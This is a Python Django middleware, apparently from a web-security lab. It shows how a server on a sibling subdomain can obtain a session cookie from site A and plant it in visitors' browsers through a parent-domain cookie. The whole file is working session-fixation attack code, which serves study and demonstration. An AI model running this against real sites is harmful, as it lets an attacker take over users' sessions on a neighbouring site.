"""A page of a site that plants a cookie for its neighbour: what a server beside yours can do to your visitors."""

from collections.abc import Callable
from http.cookies import SimpleCookie

from django.http import HttpRequest, HttpResponse
from django.shortcuts import render

from bounded_http import Request, exchange
from lab.servers import SITE_A

PATH = "/offer/"


class PlantingMiddleware:
    """Answer one more address: its page begins a session at site A for itself, and gives the visitor that key.

    Where the two have a parent domain, the cookie names it, so that it reaches site A (RFC 6265, 5.3).
    """

    def __init__(self, get_response: Callable[[HttpRequest], HttpResponse]):
        self.get_response = get_response

    def __call__(self, request: HttpRequest) -> HttpResponse:
        if request.path != PATH:
            return self.get_response(request)
        name, key = session_of_its_own()
        _, _, parent = SITE_A.host.partition(".")
        response = render(request, "offer.html", {"name": name})
        response.set_cookie(name, key, domain=parent or None, secure=name.startswith("__"), httponly=True)
        return response


def session_of_its_own() -> tuple[str, str]:
    """Name and value of the session cookie that site A gives to whoever asks. Raises ``NoAnswer``."""
    request = Request("GET", f"{SITE_A.origin}/begin/value/", address=SITE_A.back_channel_address)
    cookies = SimpleCookie(", ".join(exchange(request, 2, 5, 1_000_000).headers.get_all("Set-Cookie", [])))
    return next((name, morsel.value) for name, morsel in cookies.items() if "session" in name)
